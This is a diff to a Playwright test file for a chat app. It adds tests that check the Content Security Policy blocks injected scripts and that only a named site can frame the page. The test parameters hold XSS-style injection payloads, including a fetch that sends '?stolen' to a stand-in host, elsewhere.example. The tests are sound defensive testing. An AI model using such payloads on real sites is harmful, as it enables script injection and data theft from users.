@@ -9,7 +9,7 @@ from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
-from chromium import ChatPage, Visitor, launched, message
+from chromium import ChatPage, Visitor, launched, message, website
 from conftest import BakedProject, generate
 from playwright.sync_api import Browser, Route, expect
 from served import Application
@@ -20,7 +20,11 @@ pytestmark = pytest.mark.slow
 NOBODY = "postgresql+asyncpg://nobody@127.0.0.1:9/nothing"
 REMEMBER = "Remember that our launch is on Friday"
 # The demo model, as fast as a test wants it; `[demo:slow]` takes about three seconds to answer.
-SETTINGS = {"DEMO_DELAY_SECONDS": "0.006", "MODELS": "first-model,second-model"}
+SETTINGS = {
+    "DEMO_DELAY_SECONDS": "0.006",
+    "MODELS": "first-model,second-model",
+    "FRAME_ANCESTORS": "http://allowed.localhost:*",
+}
 
 Serve = Callable[..., Application]
 Visit = Callable[[Application], Visitor]
@@ -323,6 +327,46 @@ def test_a_message_that_is_too_long_is_refused_in_words(chat: ChatPage) -> None:
 
     expect(chat.notice).to_contain_text("20000 characters")
     chat.expect_complaint("413")
+
+
+@pytest.mark.parametrize(
+    "break_in",
+    [
+        "script.textContent = 'window.broken = true'",
+        "script.src = 'data:text/javascript,window.broken = true'",
+        "script.src = 'https://elsewhere.example/script.js'",
+        "document.body.setAttribute('onclick', 'window.broken = true'); document.body.click()",
+        "fetch('https://elsewhere.example/?stolen').catch(() => {})",
+        "document.body.append(Object.assign(document.createElement('iframe'), "
+        "{ src: 'https://elsewhere.example/' }))",
+    ],
+)
+def test_what_the_page_did_not_bring_does_not_run(chat: ChatPage, break_in: str) -> None:
+    chat.open()
+
+    with chat.page.expect_console_message(lambda m: "Content Security Policy" in m.text):
+        chat.page.evaluate(f"""() => {{
+            const script = document.createElement("script");
+            {break_in};
+            document.body.append(script);
+        }}""")
+
+    assert chat.page.evaluate("window.broken") is None
+    chat.expect_complaint("Content Security Policy")
+
+
+@pytest.mark.parametrize(("site", "headings"), [("allowed", ["My Chat App"]), ("other", [])])
+def test_only_a_named_site_can_frame_the_page(
+    chat: ChatPage, server: Application, site: str, headings: list[str]
+) -> None:
+    with website(f'<iframe src="{server.url}"></iframe>') as port:
+        chat.page.goto(f"http://{site}.localhost:{port}/")
+        frame = chat.page.frames[1]
+        frame.wait_for_load_state()
+
+    expect(frame.get_by_role("heading", name="My Chat App")).to_have_text(headings)
+    if not headings:
+        chat.expect_complaint("frame-ancestors")
 
 
 # --- When it cannot work ----------------------------------------------------------------------
